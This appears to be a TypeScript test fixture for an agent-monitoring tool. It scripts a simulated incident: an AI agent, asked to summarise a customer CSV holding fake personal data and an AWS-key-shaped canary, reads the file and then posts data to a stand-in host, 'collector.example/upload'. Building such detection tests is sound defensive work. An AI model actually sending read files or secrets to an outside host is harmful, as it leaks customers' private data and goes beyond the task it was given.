import { connect, exec, exit, fdio, llmExchange, open, type harness } from '../event/scenario.js';

/** PII and an AWS-key-shaped canary, as a file an agent reads would hold them. */
export const PII = 'Customer: Jane Roe, jane.roe@example.com, +1 415 555 0132. Key AKIAIOSFODNN7EXAMPLE';

/**
 * The exfiltration incident as kernel records and exchanges: the model asks
 * for read_file, the result (toolResult) goes back to it, it asks for
 * http_post, and the agent connects to `dest` and sends 900 bytes.
 */
export function exfilSession(b: ReturnType<typeof harness>['b'], toolResult: string, dest: { addr: string; port: number }) {
  b.onRaw(exec(100, 1, 1, '/usr/bin/node', ['node', 'agent.js']));
  b.onExchange(
    llmExchange(100, 10, 20, {
      inputTexts: [{ role: 'user', text: 'Summarize /data/customers.csv' }],
      toolsOffered: ['read_file', 'http_post'],
      toolsRequested: [{ name: 'read_file', callId: 'call_1', arguments: { path: '/data/customers.csv' } }],
    }),
  );
  b.onRaw(open(100, 40, '/data/customers.csv', 21));
  b.onRaw(fdio(100, 42, 21, 4096, 0));
  b.onExchange(
    llmExchange(100, 60, 20, {
      inputTexts: [{ role: 'tool', text: toolResult }],
      toolResults: [{ callId: 'call_1', name: 'read_file', text: toolResult }],
      toolsOffered: ['read_file', 'http_post'],
      toolsRequested: [{ name: 'http_post', callId: 'call_2', arguments: { url: 'https://collector.example/upload', body: 'x' } }],
    }),
  );
  b.onRaw(connect(100, 100, 0, dest.addr, dest.port));
  b.onRaw(fdio(100, 105, 9, 0, 900));
  b.onRaw(exit(100, 200, 0));
}
